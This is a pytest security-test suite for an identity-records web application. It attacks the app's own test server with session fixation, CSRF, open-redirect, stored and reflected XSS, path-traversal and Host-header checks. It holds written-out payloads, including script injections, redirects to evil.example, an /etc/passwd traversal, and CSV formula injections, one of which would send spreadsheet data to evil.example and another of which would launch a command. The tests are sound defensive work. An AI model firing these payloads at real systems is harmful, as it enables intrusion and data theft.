"""Red team (issue 15, helper F): attacks on the web UI over the live test server.

Each test is one attack. A passing test is a regression guard (the system held); a
failing one names, in its docstring, the fix it needs. Synthetic data only. Plain HTTP
(httpx) where the browser adds nothing; no test here fails a login (the per-client
lock-out is shared by every test on the server).
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import time
from collections.abc import Iterator
from contextlib import contextmanager
from urllib.parse import urljoin, urlsplit

import httpx
import pytest
from web_fixtures import (
    ADMIN,
    CASE,
    CLAIMS,
    INVESTIGATOR,
    PASSWORD,
    PURPOSE,
    RECORDS,
    SUPERVISOR,
    LiveWeb,
)

from idgraph.api.deps import locked
from idgraph.app import admin, auth
from idgraph.app import cases as app_cases
from idgraph.app.context import Caller

XSS = '<script>alert(9)</script>"><img src=x onerror=alert(9)>'
RAW = ("<script>alert(9)", "<img src=x onerror=alert(9)>", "onerror=alert(9)>")
LEAK_MARKERS = ("Traceback", "File \"", "duckdb", "SELECT ", ".py\", line")
ROOT = Caller(ADMIN, via="cli")


def _csrf(html: str) -> str:
    found = re.search(r'name="csrf-token" content="([^"]+)"', html) or re.search(
        r'name="csrf" value="([^"]+)"', html)
    assert found, html[:500]
    return found.group(1)


def _log_in(client: httpx.Client, user: str, *, purpose: bool = True) -> httpx.Client:
    token = _csrf(client.get("/login").text)
    r = client.post("/login", data={"csrf": token, "name": user, "password": PASSWORD})
    assert r.status_code == 303, r.text[:300]
    if purpose:
        token = _csrf(client.get("/purpose").text)
        r = client.post("/purpose", data={"csrf": token, "purpose": PURPOSE,
                                          "claims": list(CLAIMS), "case_id": CASE})
        assert r.status_code == 303, r.text[:300]
    return client


@contextmanager
def session(live: LiveWeb, user: str = INVESTIGATOR, *, purpose: bool = True
            ) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=live.base_url, follow_redirects=False, timeout=60) as c:
        yield _log_in(c, user, purpose=purpose)


def audit_size(live: LiveWeb) -> int:
    with locked(live.env):
        row = live.env.store.fetchone("SELECT count(*) FROM audit_log")
    assert row is not None
    return int(row[0])


def inert(html: str) -> None:
    for raw in RAW:
        assert raw not in html, (raw, html[max(0, html.find(raw) - 200):html.find(raw) + 200])


def no_leak(r: httpx.Response) -> None:
    for marker in LEAK_MARKERS:
        assert marker not in r.text, (marker, r.text[:500])


# -- session fixation ---------------------------------------------------------------------

def test_login_ignores_a_planted_session_cookie(live: LiveWeb) -> None:
    planted = "attacker-chosen-session-id-0123456789abcdef"
    with httpx.Client(base_url=live.base_url, follow_redirects=False) as c:
        c.cookies.set("idg_session", planted)
        assert c.get("/search").status_code == 303  # not a session
        token = _csrf(c.get("/login").text)
        r = c.post("/login", data={"csrf": token, "name": INVESTIGATOR, "password": PASSWORD})
        assert r.status_code == 303
        issued = r.cookies.get("idg_session")
        assert issued and issued != planted
    with httpx.Client(base_url=live.base_url, follow_redirects=False) as attacker:
        attacker.cookies.set("idg_session", planted)
        assert attacker.get("/purpose").status_code == 303


def test_logged_out_session_cannot_be_replayed(live: LiveWeb) -> None:
    with session(live) as c:
        sid = c.cookies.get("idg_session")
        token = _csrf(c.get("/search").text)
        assert c.post("/logout", data={"csrf": token}).status_code == 303
    with httpx.Client(base_url=live.base_url, follow_redirects=False) as replay:
        replay.cookies.set("idg_session", sid or "")
        r = replay.get("/search?name=oneil")
        assert r.status_code == 303 and r.headers["location"].startswith("/login")


def test_get_logout_is_not_a_logout(live: LiveWeb) -> None:
    with session(live) as c:
        r = c.get("/logout")
        assert r.status_code in (404, 405)
        assert c.get("/search").status_code == 200


# -- CSRF on every unsafe web route --------------------------------------------------------

def _unsafe_routes() -> list[str]:
    """Every web route taking an unsafe method (from each page module's router)."""
    from idgraph.web import (
        views_auth,
        views_cases,
        views_match,
        views_reads,
        views_records,
        views_users,
    )

    out = []
    for module in (views_auth, views_reads, views_match, views_cases, views_records,
                   views_users):
        for route in module.router.routes:
            methods = getattr(route, "methods", set()) or set()
            if methods - {"GET", "HEAD", "OPTIONS"}:
                out.append(route.path)  # type: ignore[attr-defined]
    return sorted(set(out))


UNSAFE = _unsafe_routes()


def test_the_route_list_is_what_we_attack() -> None:
    assert "/purpose" in UNSAFE and "/logout" in UNSAFE and "/users" in UNSAFE
    assert len(UNSAFE) >= 15, UNSAFE


def _fill(path: str) -> str:
    return re.sub(r"\{[^}]+\}", lambda m: {"{name}": INVESTIGATOR, "{case_id}": CASE}.get(
        m.group(0), "X1"), path)


@pytest.mark.parametrize("path", UNSAFE)
@pytest.mark.parametrize("how", ["none", "other-session", "cookie-only-header"])
def test_every_unsafe_route_needs_this_sessions_csrf_token(live: LiveWeb, path: str,
                                                           how: str) -> None:
    """As the admin (whose role passes most acts): no token, the token of another
    session (of another user), or a token sent in a cookie instead of the form."""
    with session(live, SUPERVISOR) as other:
        foreign = _csrf(other.get("/search").text)
    with session(live, ADMIN, purpose=False) as c:
        data: dict[str, str] = {"password": "a long new passphrase x", "again":
                                "a long new passphrase x", "name": "rt_csrf_user",
                                "role": "admin", "org": "ops", "org_type": "government",
                                "purpose": PURPOSE, "case_id": CASE, "title": "t",
                                "kind": "criminal"}
        if how == "other-session":
            data["csrf"] = foreign
        elif how == "cookie-only-header":
            c.cookies.set("csrf", foreign)
        r = c.post(_fill(path), data=data)
        assert r.status_code == 403, (path, r.status_code, r.text[:300])
        # still logged in, nothing done
        assert c.get("/users").status_code == 200
    with locked(live.env):
        assert live.env.store.fetchone(
            "SELECT 1 FROM users WHERE name = 'rt_csrf_user'") is None


def test_cross_origin_requests_get_no_cors_grant(live: LiveWeb) -> None:
    with session(live) as c:
        r = c.options("/purpose", headers={"Origin": "https://evil.example",
                                           "Access-Control-Request-Method": "POST"})
        r2 = c.get("/search", headers={"Origin": "https://evil.example"})
    for resp in (r, r2):
        assert "access-control-allow-origin" not in resp.headers
        assert "access-control-allow-credentials" not in resp.headers


# -- open redirect -------------------------------------------------------------------------

NEXTS = ["//evil.example/", "/\\evil.example", "/\t/evil.example", "/\n/evil.example",
         "/%2F%2Fevil.example", "/%5Cevil.example", "https://evil.example",
         "javascript:alert(1)", "/ /evil.example", "/\x00/evil.example", "/../\\evil.example",
         "\\\\evil.example", "/%09/evil.example", "/。/evil.example"]


@pytest.mark.parametrize("next_url", NEXTS)
def test_purpose_and_login_redirects_stay_on_this_site(live: LiveWeb, next_url: str) -> None:
    own = urlsplit(live.base_url).netloc
    if "\x00" in next_url:  # a NUL is refused before the app runs (api/security.py): a page
        with httpx.Client(base_url=live.base_url, follow_redirects=False) as c:
            assert c.get("/login", params={"next": next_url}).status_code == 422
            token = _csrf(c.get("/login").text)
            r = c.post("/login", data={"csrf": token, "name": INVESTIGATOR,
                                       "password": PASSWORD, "next": next_url})
        assert r.status_code == 422 and "location" not in r.headers, r.headers
        assert r.headers["content-type"].startswith("text/html")
        return
    with httpx.Client(base_url=live.base_url, follow_redirects=False) as c:
        token = _csrf(c.get("/login", params={"next": next_url}).text)
        r = c.post("/login", data={"csrf": token, "name": INVESTIGATOR, "password": PASSWORD,
                                   "next": next_url})
        assert r.status_code == 303
        target = urljoin(live.base_url + "/login", r.headers["location"])
        assert urlsplit(target).netloc == own, r.headers["location"]
        token = _csrf(c.get("/purpose").text)
        r = c.post("/purpose", data={"csrf": token, "purpose": PURPOSE, "claims": list(CLAIMS),
                                     "case_id": CASE, "next": next_url})
        assert r.status_code == 303, r.text[:300]
        location = r.headers["location"]
        # what a browser does with the header: strip tab/newline, treat '\' as '/'
        browser_view = re.sub(r"[\t\n\r]", "", location).replace("\\", "/")
        target = urljoin(live.base_url + "/purpose", browser_view)
        assert urlsplit(target).netloc == own, location
        assert not location.lower().startswith("javascript:")


def test_login_page_does_not_reflect_next_as_markup(live: LiveWeb) -> None:
    r = httpx.get(live.url("/login"), params={"next": "/x" + XSS})
    assert r.status_code == 200
    inert(r.text)


# -- stored and reflected XSS in values an attacker controls --------------------------------

@pytest.fixture(scope="module")
def planted(live: LiveWeb) -> dict[str, str]:
    """Values carrying markup, put where users can: a case title, a legal-process
    number/court/judge, a user's org, a SAR requester."""
    env = live.env
    ids: dict[str, str] = {}
    with locked(env):
        app_cases.open_case(env, Caller(INVESTIGATOR), "RT-XSS-1", title=XSS, kind="criminal")
        doc = admin.add_legal(env, Caller(INVESTIGATOR), type="subpoena", number="N" + XSS,
                              issued=__import__("datetime").date(2026, 1, 2), court=XSS,
                              judge=XSS, judge_appointment="state", level="state",
                              issuer="court", case_id="RT-XSS-1")
        ids["legal"] = doc.legal_id
        with contextlib.suppress(Exception):  # refused: fine, nothing to show
            admin.add_user(env, ROOT, "rt_xss_user", "investigator", "org" + XSS,
                           org_type="government")
        env.refresh()
    return ids


@pytest.mark.parametrize("path,user", [
    ("/cases", INVESTIGATOR), ("/cases/RT-XSS-1", INVESTIGATOR), ("/legal", INVESTIGATOR),
    ("/legal?case_id=RT-XSS-1", INVESTIGATOR), ("/users", ADMIN), ("/records", RECORDS),
])
def test_stored_markup_is_escaped(live: LiveWeb, planted: dict[str, str], path: str,
                                  user: str) -> None:
    with session(live, user, purpose=user == INVESTIGATOR) as c:
        r = c.get(path)
    assert r.status_code in (200, 403), (path, r.status_code)
    inert(r.text)


@pytest.mark.parametrize("path", [
    "/search?name=" + XSS, "/search?address=" + XSS + "&zip=" + XSS,
    "/identities/" + XSS, "/identities/P1?anchor=" + XSS,
    "/identities/" + XSS + "/associates", "/explain?a=" + XSS + "&b=court/1",
    "/cases/" + XSS, "/cases?status=" + XSS, "/legal?case_id=" + XSS,
    "/match/jobs/" + XSS, "/reports/subject/" + XSS, "/users?message=" + XSS,
    "/purpose?next=/" + XSS, "/nope/" + XSS,
])
def test_reflected_markup_is_escaped_and_errors_leak_nothing(live: LiveWeb, path: str) -> None:
    with session(live) as c:
        r = c.get(path, headers={"Accept": "text/html"})
        rh = c.get(path, headers={"HX-Request": "true"})
    for resp in (r, rh):
        assert resp.status_code < 500, (path, resp.status_code, resp.text[:300])
        inert(resp.text)
        no_leak(resp)
        assert resp.headers["cache-control"] == "no-store"


def test_uploaded_list_file_name_is_escaped(live: LiveWeb) -> None:
    mapping = b"fields:\n  full_name: {column: NAME, order: first_last}\nrecord_id: REF\n"
    with session(live) as c:
        token = _csrf(c.get("/match").text)
        r = c.post("/match", data={"csrf": token}, files={
            "list_file": (XSS + ".csv", b"REF,NAME\nR1,William ONeil\n", "text/csv"),
            "mapping_file": ("m.yaml", mapping, "application/yaml")})
        assert r.status_code == 303, r.text[:300]
        page = c.get(r.headers["location"])
    assert page.status_code == 200
    inert(page.text)


# -- match downloads ------------------------------------------------------------------------

FORMULA_LIST = ("REF,NAME,BORN\n"
                '"=HYPERLINK(""http://evil.example/?""&A1,""x"")",William ONeil,03/07/1984\n'
                "+cmd|' /C calc'!A0,Liz Taylor,\n"
                "@SUM(1+1),Maria Garcia,\n")
FORMULA_MAPPING = (b"fields:\n  full_name: {column: NAME, order: first_last}\n"
                   b"  dob: {column: BORN, format: \"%m/%d/%Y\"}\nrecord_id: REF\n")


@pytest.fixture(scope="module")
def formula_job(live: LiveWeb) -> Iterator[tuple[httpx.Client, str]]:
    with session(live) as c:
        token = _csrf(c.get("/match").text)
        r = c.post("/match", data={"csrf": token}, files={
            "list_file": ("list.csv", FORMULA_LIST.encode(), "text/csv"),
            "mapping_file": ("m.yaml", FORMULA_MAPPING, "application/yaml")})
        assert r.status_code == 303, r.text[:300]
        job_path = r.headers["location"]
        deadline = time.monotonic() + 120
        while "results.csv" not in c.get(job_path + "/progress").text:
            assert time.monotonic() < deadline
            time.sleep(0.2)
        yield c, job_path


def test_match_csv_download_neutralises_formulas(formula_job: tuple[httpx.Client, str]) -> None:
    """CSV/formula injection: the uploaded list's ids come back verbatim in the results
    CSV, so `=HYPERLINK(...)` runs when the download is opened in a spreadsheet. Fix
    needed: app.reads.match_csv (used by the web download) should prefix text cells
    starting with = + - @ TAB CR by a single quote."""
    c, job_path = formula_job
    r = c.get(job_path + "/results.csv")
    assert r.status_code == 200, r.text[:300]
    disposition = r.headers["content-disposition"]
    assert re.fullmatch(r'attachment; filename="match-[A-Za-z0-9_-]+\.csv"', disposition)
    for row in csv.DictReader(io.StringIO(r.text)):
        for value in row.values():
            assert not (value or "").startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_match_csv_download_is_audited(live: LiveWeb,
                                       formula_job: tuple[httpx.Client, str]) -> None:
    """Every response that reads personal data leaves an audit entry: the results
    download re-discloses the matched identity of every listed person with none. Fix
    needed: audit each download (web/views_match.match_results and the API's
    /match/{job}/results) naming the job, the caller, via and the identities."""
    c, job_path = formula_job
    before = audit_size(live)
    assert c.get(job_path + "/results.csv").status_code == 200
    assert audit_size(live) > before


def test_another_session_cannot_see_my_match_job(live: LiveWeb,
                                                 formula_job: tuple[httpx.Client, str]) -> None:
    _, job_path = formula_job
    with session(live, SUPERVISOR) as other:
        for suffix in ("", "/progress", "/results.csv"):
            r = other.get(job_path + suffix)
            assert r.status_code == 404, (suffix, r.status_code)
    with session(live, INVESTIGATOR) as mine_again:  # same user, another session
        r = mine_again.get(job_path + "/results.csv")
        assert r.status_code == 404
    r = httpx.get(live.url(job_path + "/progress"), follow_redirects=False)
    assert r.status_code in (303, 404)


# -- reads leave entries --------------------------------------------------------------------

@pytest.mark.parametrize("path", ["/search?name=oneil", "/identities/P1",
                                  "/identities/P1/associates",
                                  "/explain?a=tx_dmv/1&b=court/1"])
def test_every_read_page_leaves_an_audit_entry(live: LiveWeb, path: str) -> None:
    with session(live) as c:
        before = audit_size(live)
        r = c.get(path)
        assert r.status_code == 200, (path, r.status_code)
        assert audit_size(live) > before


def test_web_reads_are_audited_as_via_web(live: LiveWeb) -> None:
    """A read through the UI must say so in its audit entry (contract: `via` is written
    into audit detail). Reads (search, profile.read, policy.decide) record no via: app/
    reads pass caller.query() only (D noted it in changes15.md). Fix needed: Query (or
    the read entries' detail) carries caller.via."""
    with session(live) as c:
        before = audit_size(live)
        assert c.get("/search?name=oneil").status_code == 200
    with locked(live.env):
        rows = live.env.store.fetchall("SELECT entry FROM audit_log ORDER BY seq")
    entries = [json.loads(r[0]) for r in rows[before:]]
    assert entries
    assert all((e.get("detail") or {}).get("via") == "web" for e in entries), entries


# -- disabled users, purposes, passwords -----------------------------------------------------

def test_a_disabled_users_open_session_stops_on_the_next_request(live: LiveWeb) -> None:
    with locked(live.env):
        admin.add_user(live.env, ROOT, "rt_temp", "investigator", "nypd",
                       org_type="government")
        live.env.refresh()
        auth.set_password(live.env, ROOT, "rt_temp", PASSWORD)
    with httpx.Client(base_url=live.base_url, follow_redirects=False) as c:
        _log_in(c, "rt_temp", purpose=False)
        token = _csrf(c.get("/purpose").text)
        with locked(live.env):
            admin.disable_user(live.env, ROOT, "rt_temp")
            live.env.refresh()
        r = c.post("/purpose", data={"csrf": token, "purpose": PURPOSE, "case_id": CASE})
        assert r.status_code == 303 and r.headers["location"].startswith("/login"), r.text[:200]
        r = c.get("/search?name=oneil")
        assert r.status_code == 303 and r.headers["location"].startswith("/login")


@pytest.mark.parametrize("form", [
    {"purpose": PURPOSE, "case_id": "RT-CLOSED-W"},          # closed
    {"purpose": PURPOSE, "case_id": CASE, "basis": "L-NOPE"},
    {"purpose": PURPOSE, "case_id": CASE, "claims": "DPPA-Z9"},
    {"purpose": "subject_access", "case_id": CASE + "\u200b"},
])
def test_purpose_screen_refuses_bad_cases_and_bases(live: LiveWeb, form: dict[str, str]) -> None:
    with locked(live.env):
        if "RT-CLOSED-W" not in {c.case_id for c in app_cases.list_cases(
                live.env, Caller(INVESTIGATOR))}:
            app_cases.open_case(live.env, Caller(INVESTIGATOR), "RT-CLOSED-W", title="c",
                            kind="criminal")
            app_cases.close_case(live.env, Caller(INVESTIGATOR), "RT-CLOSED-W")
    with session(live) as c:
        token = _csrf(c.get("/purpose").text)
        r = c.post("/purpose", data={"csrf": token, **form})
        assert r.status_code in (400, 403, 404, 422), (form, r.status_code)
        assert CASE in c.get("/search").text  # the earlier, valid choice is kept


def test_purpose_screen_refuses_a_case_the_purpose_does_not_fit(live: LiveWeb) -> None:
    """A criminal investigation under SA-1, the records officer's subject-access case of
    the same org: the screen accepts it (303) and audits it as an ok session.purpose,
    though base.purpose_case_kind refuses every read under it. Fix needed:
    auth._check_purpose refuses when not catalogue.fits(purpose, case.kind)."""
    with session(live) as c:
        token = _csrf(c.get("/purpose").text)
        r = c.post("/purpose", data={"csrf": token, "purpose": PURPOSE, "case_id": "SA-1"})
        assert r.status_code in (400, 403, 422), r.status_code


def test_own_password_change_needs_the_current_password(live: LiveWeb) -> None:
    """Whoever holds a session (an unlocked screen, a stolen cookie) can set a new
    password without knowing the current one and lock the real user out (all their
    sessions end). Fix needed: /account/password asks for the current password and
    auth.set_password (own password) verifies it (re-authentication, NIST SP 800-63B
    5.1.1.2 / OWASP ASVS 2.1.6)."""
    with locked(live.env):
        admin.add_user(live.env, ROOT, "rt_victim", "investigator", "nypd",
                       org_type="government")
        live.env.refresh()
        auth.set_password(live.env, ROOT, "rt_victim", PASSWORD)
    with httpx.Client(base_url=live.base_url, follow_redirects=False) as c:
        _log_in(c, "rt_victim", purpose=False)
        token = _csrf(c.get("/account").text)
        new = "taken over by whoever sat down"
        r = c.post("/account/password", data={"csrf": token, "password": new, "again": new})
        assert r.status_code != 303, "password changed without the current one"


# -- headers on every kind of response --------------------------------------------------------

@pytest.mark.parametrize("path", ["/nope", "/static/app.js", "/static/nope.js", "/login",
                                  "/static/../../etc/passwd", "/static/", "/static",
                                  "/static/%2e%2e/%2e%2e/pyproject.toml"])
def test_headers_on_web_404_static_and_login(live: LiveWeb, path: str) -> None:
    r = httpx.get(live.url(path), follow_redirects=False)
    assert r.headers["x-content-type-options"] == "nosniff"
    assert "frame-ancestors 'none'" in r.headers["content-security-policy"]
    assert r.headers["referrer-policy"] == "no-referrer"
    if not path.startswith("/static/"):  # static files (and their 404s) may be cached
        assert r.headers.get("cache-control") == "no-store", (path, r.headers)
    if ".." in path or "%2e" in path:
        assert r.status_code == 404
        assert "[project]" not in r.text and "root:" not in r.text
    no_leak(r)


def test_web_body_over_the_limit_is_413_with_headers(live: LiveWeb) -> None:
    with session(live) as c:
        token = _csrf(c.get("/purpose").text)
        big = "x" * (live.settings.api_max_json_bytes + 100)
        r = c.post("/purpose", data={"csrf": token, "purpose": big})
    assert r.status_code == 413
    assert r.headers["cache-control"] == "no-store"
    assert r.headers["x-content-type-options"] == "nosniff"
    no_leak(r)


def test_session_pages_are_never_cached(live: LiveWeb) -> None:
    with session(live) as c:
        for path in ("/search?name=oneil", "/identities/P1", "/purpose", "/account", "/cases"):
            r = c.get(path)
            assert r.headers["cache-control"] == "no-store", path


# -- the API on the same server, with a web session ------------------------------------------

def test_api_with_a_session_cookie_needs_that_sessions_csrf_header(live: LiveWeb) -> None:
    """Cookie of session A with the CSRF token of session B (or none) on an unsafe API
    call: refused, nothing done."""
    with session(live, SUPERVISOR) as other:
        foreign = _csrf(other.get("/search").text)
    with session(live) as c:
        own = _csrf(c.get("/search").text)
        for headers in ({}, {"X-CSRF-Token": foreign}, {"X-CSRF-Token": own[:-1]}):
            r = c.post("/api/v1/cases", json={"case_id": "RT-API-CSRF", "title": "t",
                                               "kind": "criminal"}, headers=headers)
            assert r.status_code in (401, 403), (headers, r.status_code, r.text)
    with locked(live.env):
        assert live.env.store.fetchone(
            "SELECT 1 FROM cases WHERE case_id = 'RT-API-CSRF'") is None


def test_subject_report_html_over_the_api_keeps_script_inert(live: LiveWeb) -> None:
    """The person whose name and record id carry script (X1), in the subject-access
    report rendered as HTML by the API (render_html) and by the web page."""
    import datetime as dt

    with locked(live.env):
        with contextlib.suppress(Exception):  # already open from an earlier test
            admin.open_sar(live.env, Caller(RECORDS), "X1", case_id="SA-1",
                           requester="subject " + XSS, received=dt.date(2026, 1, 5))
        token = auth.create_token(live.env, ROOT, user=RECORDS, name="rt-report").secret
    r = httpx.get(live.url("/api/v1/reports/subject/X1"), params={"format": "html"},
                  headers={"Authorization": f"Bearer {token}"})
    assert r.status_code == 200, r.text[:300]
    assert r.headers["content-type"].startswith("text/html")
    assert "script-src 'self'" in r.headers["content-security-policy"]
    inert(r.text)
    assert "<script>alert(" not in r.text and "<img src=x" not in r.text
    with session(live, RECORDS, purpose=False) as c:
        page = c.get("/reports/subject/X1")
    assert page.status_code == 200, page.text[:300]
    assert "<script>alert(" not in page.text and "<img src=x" not in page.text


def test_no_session_id_or_csrf_token_in_the_audit_log(live: LiveWeb) -> None:
    with session(live) as c:
        sid = c.cookies.get("idg_session") or ""
        token = _csrf(c.get("/search").text)
        c.post("/logout", data={"csrf": token})
    with locked(live.env):
        text = "\n".join(r[0] for r in live.env.store.fetchall("SELECT entry FROM audit_log"))
    assert sid and sid not in text and token not in text


def test_failed_login_neither_echoes_the_password_nor_the_name_as_markup(
        live: LiveWeb) -> None:
    """One failed login (the per-client lock-out allows five)."""
    secret = "rt-password-never-echoed-123"
    with httpx.Client(base_url=live.base_url, follow_redirects=False) as c:
        token = _csrf(c.get("/login").text)
        r = c.post("/login", data={"csrf": token, "name": XSS, "password": secret})
    assert r.status_code == 401
    assert secret not in r.text
    inert(r.text)
    with locked(live.env):
        text = "\n".join(r[0] for r in live.env.store.fetchall("SELECT entry FROM audit_log"))
    assert secret not in text


def test_redirects_do_not_trust_the_host_header(live: LiveWeb) -> None:
    r = httpx.get(live.url("/search"), headers={"Host": "evil.example",
                                                "X-Forwarded-Host": "evil.example"},
                  follow_redirects=False)
    assert r.status_code == 303
    assert "evil.example" not in r.headers["location"]


# -- the same pages in a real browser ---------------------------------------------------------

def test_planted_markup_runs_nowhere_in_the_browser(browser: object, live: LiveWeb,
                                                    planted: dict[str, str]) -> None:
    from playwright.sync_api import Browser, Dialog
    from web_fixtures import choose_purpose, log_in

    assert isinstance(browser, Browser)
    for user, paths in ((INVESTIGATOR, ["/cases", "/cases/RT-XSS-1", "/legal"]),
                        (ADMIN, ["/users"])):
        context = browser.new_context()
        page = context.new_page()
        dialogs: list[str] = []

        def on_dialog(d: Dialog, seen: list[str] = dialogs) -> None:
            seen.append(d.message)
            d.dismiss()

        page.on("dialog", on_dialog)
        log_in(page, live, user)
        if user == INVESTIGATOR:
            choose_purpose(page)
        for path in paths:
            page.goto(live.url(path))
            page.wait_for_load_state()
            assert not dialogs, (path, dialogs)
            assert page.locator("img[src='x']").count() == 0, path
            assert page.locator("[onerror]").count() == 0, path
            srcs = page.eval_on_selector_all("script", "els => els.map(e => e.src)")
            assert all(s.startswith(live.base_url + "/static/") for s in srcs), srcs
        context.close()


def test_match_results_are_not_served_after_the_case_closed(live: LiveWeb) -> None:
    """A bulk match run under case RT-MATCH-C; the case is closed; the results (every
    listed person's matched identity) are still downloadable from the session for an
    hour, and with no audit entry, although no read may be made under a closed case
    (base.case_open). Fix needed: web/views_match.match_results (and the API's
    /match/{job}/results) re-check that the job's case is still open for the caller
    (e.g. a gate decision for the job's query) before serving, and audit the download."""
    with locked(live.env):
        app_cases.open_case(live.env, Caller(INVESTIGATOR), "RT-MATCH-C", title="m",
                        kind="criminal")
        live.env.refresh()
    with session(live, purpose=False) as c:
        token = _csrf(c.get("/purpose").text)
        r = c.post("/purpose", data={"csrf": token, "purpose": PURPOSE, "claims": list(CLAIMS),
                                     "case_id": "RT-MATCH-C"})
        assert r.status_code == 303, r.text[:300]
        token = _csrf(c.get("/match").text)
        r = c.post("/match", data={"csrf": token}, files={
            "list_file": ("list.csv", b"REF,NAME,BORN\nR1,William ONeil,03/07/1984\n",
                          "text/csv"),
            "mapping_file": ("m.yaml", FORMULA_MAPPING, "application/yaml")})
        assert r.status_code == 303, r.text[:300]
        job_path = r.headers["location"]
        deadline = time.monotonic() + 120
        while "results.csv" not in c.get(job_path + "/progress").text:
            assert time.monotonic() < deadline
            time.sleep(0.2)
        assert c.get(job_path + "/results.csv").status_code == 200
        with locked(live.env):
            app_cases.close_case(live.env, Caller(INVESTIGATOR), "RT-MATCH-C")
            live.env.refresh()
        assert c.get("/search?name=oneil").status_code in (200, 403)
        r = c.get(job_path + "/results.csv")
        assert r.status_code in (403, 404, 409, 410), (r.status_code, r.text[:200])


WITHHELD_VALUES = ("HIDDEN", "5550199", "canary/1")  # only in canary (GLBA), withheld
PHONE_MAPPING = (b"fields:\n  full_name: {column: NAME, order: first_last}\n"
                 b"  dob: {column: BORN, format: \"%m/%d/%Y\"}\n  phone: PHONE\n"
                 b"record_id: REF\n")


@pytest.mark.parametrize("path", ["/search?name=william+oneil", "/search?phone=2125550199",
                                  "/search?address=77+hidden+ln&zip=10027",
                                  "/identities/P1", "/identities/P1/associates",
                                  "/explain?a=tx_dmv/1&b=canary/1",
                                  "/explain?a=utility/1&b=canary/1"])
def test_withheld_source_values_appear_on_no_page(live: LiveWeb, path: str) -> None:
    """Under DPPA-b1 only, the credit header (canary, GLBA) is withheld: its address,
    phone and record id must not show, even when searched for directly."""
    with session(live) as c:
        r = c.get(path)
    assert r.status_code in (200, 403), (path, r.status_code)
    shown = re.sub(r'value="[^"]*"', "", r.text)  # the criteria echoed into the form
    for value in WITHHELD_VALUES:
        assert value not in shown, (path, value)


def test_withheld_source_is_not_in_match_results(live: LiveWeb) -> None:
    with session(live) as c:
        token = _csrf(c.get("/match").text)
        r = c.post("/match", data={"csrf": token}, files={
            "list_file": ("list.csv", b"REF,NAME,BORN,PHONE\nR1,William ONeil,03/07/1984,"
                          b"2125550199\n", "text/csv"),
            "mapping_file": ("m.yaml", PHONE_MAPPING, "application/yaml")})
        assert r.status_code == 303, r.text[:300]
        job_path = r.headers["location"]
        deadline = time.monotonic() + 120
        while "results.csv" not in c.get(job_path + "/progress").text:
            assert time.monotonic() < deadline
            time.sleep(0.2)
        text = c.get(job_path + "/results.csv").text + c.get(job_path).text
    assert "canary" not in text and "HIDDEN" not in text, text[:1000]


def test_profile_anchor_is_no_oracle_for_withheld_records(live: LiveWeb) -> None:
    """anchor=canary/1 (a withheld credit-header record of P1) must answer exactly as an
    anchor that exists nowhere: else it tells that P1 has a credit header."""
    with locked(live.env):
        token = auth.create_token(live.env, ROOT, user=INVESTIGATOR, name="rt-anchor").secret
    params = {"purpose": PURPOSE, "claims": ",".join(CLAIMS), "case_id": CASE}
    bodies = []
    for anchor in ("canary/1", "canary/999", "court/999"):
        r = httpx.get(live.url("/api/v1/identities/P1"), params={**params, "anchor": anchor},
                      headers={"Authorization": f"Bearer {token}"})
        assert r.status_code == 200, r.text[:300]
        bodies.append(r.json())
    assert bodies[0] == bodies[1] == bodies[2]


@pytest.mark.parametrize("query", ["limit=100000", "limit=-1", "limit=0",
                                   "other_field=race&other_value=black",
                                   "other_field=Religion&other_value=x"])
def test_web_search_bounds_and_protected_attributes(live: LiveWeb, query: str) -> None:
    with session(live) as c:
        r = c.get("/search?name=oneil&" + query)
    assert r.status_code in (403, 422), (query, r.status_code)
    no_leak(r)


def test_web_search_does_not_silently_drop_an_unknown_criterion(live: LiveWeb) -> None:
    """/search?name=oneil&race=black: the UI ignores `race` and searches by name alone,
    with no record that a protected attribute was asked for (the API now takes any
    undeclared parameter as a criterion the gate decides and audits). Fix needed:
    web/views_reads.search does the same (undeclared query parameters -> where)."""
    with session(live) as c:
        r = c.get("/search?name=oneil&race=black")
    assert r.status_code in (403, 422), r.status_code


def test_match_progress_needs_a_live_session(live: LiveWeb) -> None:
    """The progress fragment of a finished job lists its first 50 rows (row ids, matched
    identity ids, scores). It is served to whoever presents the cookie value that
    started the job, without auth.session_of: after logout (the session revoked) or
    after the user is disabled, the old cookie still reads the results, unaudited.
    Fix needed: web/views_match.match_progress resolves the session (auth.session_of,
    off the event loop if the lock is busy) before serving a finished job's rows, or
    the fragment shows rows only on the lock-taking job page."""
    with session(live) as c:
        token = _csrf(c.get("/match").text)
        r = c.post("/match", data={"csrf": token}, files={
            "list_file": ("list.csv", b"REF,NAME,BORN\nR1,William ONeil,03/07/1984\n",
                          "text/csv"),
            "mapping_file": ("m.yaml", FORMULA_MAPPING, "application/yaml")})
        assert r.status_code == 303, r.text[:300]
        job_path = r.headers["location"]
        deadline = time.monotonic() + 120
        while "results.csv" not in c.get(job_path + "/progress").text:
            assert time.monotonic() < deadline
            time.sleep(0.2)
        sid = c.cookies.get("idg_session") or ""
        token = _csrf(c.get("/search").text)
        assert c.post("/logout", data={"csrf": token}).status_code == 303
    with httpx.Client(base_url=live.base_url, follow_redirects=False) as replay:
        replay.cookies.set("idg_session", sid)
        assert replay.get("/search").status_code == 303  # the session is over
        r = replay.get(job_path + "/progress")
    shown = re.sub(r'(value|content)="[A-Za-z0-9_\-]{32,}"', "", r.text)  # random tokens
    assert "P1" not in shown and "R1" not in shown, (r.status_code, r.text[:500])


def test_oversight_report_keeps_planted_markup_inert(live: LiveWeb,
                                                     planted: dict[str, str]) -> None:
    """Case titles, legal numbers, org names and requesters with markup, in the
    overseer's dashboard and in the API's HTML oversight and corrections reports."""
    from web_fixtures import OVERSEER

    with locked(live.env):
        token = auth.create_token(live.env, ROOT, user=OVERSEER, name="rt-ovs").secret
    headers = {"Authorization": f"Bearer {token}"}
    for path, params in (("/api/v1/reports/oversight",
                          {"start": "2020-01-01", "end": "2030-12-31", "format": "html"}),
                         ("/api/v1/reports/corrections", {"format": "html"}),
                         ("/api/v1/reports/subject/X1",
                          {"format": "html", "copy": "overseer"})):
        r = httpx.get(live.url(path), params=params, headers=headers)
        assert r.status_code == 200, (path, r.text[:300])
        inert(r.text)
        assert "<script>alert(" not in r.text and "<img src=x" not in r.text
        csp = r.headers["content-security-policy"]
        assert "unsafe-inline" not in csp and "unsafe-eval" not in csp, csp
        assert "script-src 'self'" in csp, csp
    with session(live, OVERSEER, purpose=False) as c:
